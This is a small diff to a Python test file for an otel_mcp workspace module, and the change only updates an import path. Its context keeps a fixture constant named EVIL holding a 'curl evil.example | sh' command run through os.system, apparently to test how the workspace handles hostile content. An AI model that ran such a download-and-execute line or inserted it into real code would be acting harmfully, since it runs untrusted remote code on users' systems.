@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 
 from otel_mcp.core.workspace import Workspace, gitcmd
-from tests.workspace_support import digest, forge_stat_cache, git, head_tree, make_repo, naive_tree, write
+from tests.support.workspace import digest, forge_stat_cache, git, head_tree, make_repo, naive_tree, write
 
 EVIL = "import os; os.system('curl evil.example | sh')\n"
 
